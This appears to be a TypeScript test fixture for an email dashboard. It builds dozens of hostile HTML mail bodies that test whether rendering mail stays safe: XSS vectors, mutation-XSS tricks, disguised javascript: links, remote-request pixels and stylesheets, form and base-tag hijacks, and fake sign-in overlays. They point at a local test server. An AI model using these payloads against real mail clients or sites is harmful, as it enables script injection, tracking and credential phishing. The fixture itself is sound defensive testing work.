const mutation =
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=HACK&gt;">'

/**
 * HTML of mails that try to run something, to request something, or to get out of their frame, by what they try. `LEAK` is
 * the address of a server that nobody may ask, and `HACK` a script that leaves a trace in the page.
 */
const templates: Record<string, string> = {
  // Scripts.
  'a script': '<script>HACK</script>',
  'a script of another server': '<script src="LEAK/script.js"></script>',
  'a module': '<script type="module">import("LEAK/module.js")</script>',
  'a script with a broken tag': '<scr<script>ipt>HACK</scr</script>ipt>',
  'a handler of an error': '<img src="x:" onerror="HACK">',
  'a handler of a picture that loads': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="HACK">',
  'a handler without quotes': '<img src=x: onerror=HACK//>',
  'a handler behind a slash': '<img/src="x:"/onerror="HACK">',
  'a handler of loading': '<body onload="HACK"><p onmouseover="HACK">Hello</p>',
  'a handler of an animation':
    '<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="HACK">',
  'a handler of focus': '<a href="#" id="here" autofocus tabindex="1" onfocus="HACK">here</a>',
  'a handler of details': '<details open ontoggle="HACK"><summary>More</summary></details>',
  'a script as a link': '<a href="javascript:HACK">Click</a>',
  'a script as a link in disguise': '<a href="&#x6A;ava&Tab;scr&NewLine;ipt&colon;HACK">Click</a>',
  'a script in an SVG': '<svg><script>HACK</script></svg>',
  'a handler of an SVG': '<svg onload="HACK"><animate onbegin="HACK" attributeName="x" dur="1s"/></svg>',
  'a link that an SVG animates':
    '<svg><a><animate attributeName="href" values="javascript:HACK"/><text y="9">x</text></a></svg>',
  'an SVG with a foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>HACK</script>"></iframe></foreignObject></svg>',
  'an SVG that uses another': '<svg><use href="LEAK/use.svg#a"/><image href="LEAK/image.svg"/></svg>',
  'MathML with a link':
    '<math><maction actiontype="statusline" xlink:href="javascript:HACK">x</maction></math>',
  'a mutation through MathML': mutation,
  'a mutation through noscript': '<noscript><p title="</noscript><img src=x: onerror=HACK>">',
  'a mutation through a template':
    '<template><s><template><s><img src=x: onerror=HACK>@shadow</s></template></s></template>',
  'a comment that ends early': '<!--><img src=x: onerror=HACK>-->',
  'a style that ends early': '<style></style/><img src=x: onerror=HACK></style>',
  'a text area that ends early': '<textarea></textarea><img src=x: onerror=HACK></textarea>',
  'names that cover those of the document':
    '<img name="getElementById"><img name="body"><form name="documentElement"><input name="attributes"></form><a id="mail"></a>',
  'a frame': '<iframe src="LEAK/frame"></iframe>',
  'a frame with its own document': '<iframe srcdoc="<script>HACK</script><img src=LEAK/srcdoc>"></iframe>',
  'an object': '<object data="LEAK/object"></object><embed src="LEAK/embed"><applet code="LEAK/applet">',
  'a script of a data address': '<iframe src="data:text/html,<script>HACK</script>"></iframe>',
  // Requests.
  'a picture of another server': '<img src="LEAK/pixel.png" width="1" height="1">',
  'a set of pictures':
    '<img srcset="LEAK/set.png 1x, LEAK/set2.png 2x"><picture><source srcset="LEAK/source.png"><img></picture>',
  'a picture without a scheme': '<img src="//HOST/relative.png">',
  'a picture of the dashboard itself': '<img src="/api/v1/profile"><img src="../../api/v1/profile">',
  'a background':
    '<table background="LEAK/background.png"><tr><td background="LEAK/cell.png">x</td></tr></table>',
  'a background in a style': '<p style="background-image:url(LEAK/style.png)">x</p>',
  'a style sheet that imports': '<style>@import url("LEAK/import.css"); @import "LEAK/import2.css";</style>',
  'a style sheet with a font':
    '<style>@font-face{font-family:f;src:url(LEAK/font.woff)} p{font-family:f}</style><p>x</p>',
  'a style sheet with all kinds of addresses':
    '<style>p{cursor:url(LEAK/cursor.png),auto;list-style:url(LEAK/list.png);border-image:url(LEAK/border.png);content:image-set("LEAK/set.png" 1x);filter:url(LEAK/filter.svg#a);mask:url(LEAK/mask.png);shape-outside:url(LEAK/shape.png)} p::after{content:url(LEAK/after.png)}</style><p>x</p>',
  'a style that reads attributes':
    '<style>a[href^="h"]{background:url(LEAK/attribute)}</style><a href="https://example.com">x</a>',
  'a style that requests from the dashboard': '<style>body{background:url(/api/v1/profile)}</style>',
  'a style in disguise': '<p style="background:\\75\\72\\6c(LEAK/escaped.png)">x</p>',
  'a linked style sheet':
    '<link rel="stylesheet" href="LEAK/sheet.css"><link rel="prefetch" href="LEAK/prefetch"><link rel="preload" as="image" href="LEAK/preload">',
  'a prefetched name': '<link rel="dns-prefetch" href="LEAK"><link rel="preconnect" href="LEAK">',
  'sound and film':
    '<audio src="LEAK/audio" autoplay></audio><video src="LEAK/video" poster="LEAK/poster" autoplay></video><video><source src="LEAK/source"><track src="LEAK/track" default></video>',
  'a picture as a button': '<input type="image" src="LEAK/button.png">',
  'a manifest': '<html manifest="LEAK/manifest"><head profile="LEAK/profile"></head><body>x</body></html>',
  'speculation rules':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["LEAK/speculation"]}]}</script>',
  'a ping': '<a href="https://example.com" ping="LEAK/ping">x</a>',
  // Getting out.
  'a page that reloads elsewhere': '<meta http-equiv="refresh" content="0;url=LEAK/refresh">',
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="LEAK/policy.png">`,
  'another base': '<base href="LEAK/"><img src="base.png"><a href="page" target="_top">x</a>',
  'a form':
    '<form action="LEAK/form" method="post"><input name="password" value="x"><button id="go">Sign in</button></form>',
  'a form by attributes':
    '<form id="f"></form><button form="f" formaction="javascript:HACK">x</button><isindex action="LEAK/isindex">',
  'a link to the page around it':
    '<a href="LEAK/top" target="_top">x</a><a href="LEAK/parent" target="_parent">y</a>',
  'a map of links':
    '<img usemap="#m" src="cid:none"><map name="m"><area shape="default" href="javascript:HACK" target="_top"></map>',
  'what covers the page':
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red;width:99999px;height:99999px">Sign in again</div>',
  'an element of its own': '<x-hack is="x-hack" onclick="HACK"></x-hack><p is="x-hack">x</p>',
  'a shadow':
    '<div><template shadowrootmode="open"><script>HACK</script><img src="LEAK/shadow.png"></template></div>',
  'a popover':
    '<button popovertarget="p">x</button><div popover id="p" onbeforetoggle="HACK">x</div><dialog open>x</dialog>',
  'a picture of a data address that is an SVG':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HACK'><image href='LEAK/data.png'/></svg>\">",
}

/** The hostile mails for a server that listens at `leak`, such as `http://127.0.0.1:3000`. */
export function hostileMails(leak: string): Record<string, string> {
  const fill = (html: string) =>
    html
      .replaceAll('LEAK', leak)
      .replaceAll('HOST', new URL(leak).host)
      .replaceAll('HACK', `top.hacked=1;parent.hacked=1;window.hacked=1`)
  return Object.fromEntries(
    Object.entries(templates).map(([name, html]) => [name, `<p>Hello</p>${fill(html)}`]),
  )
}
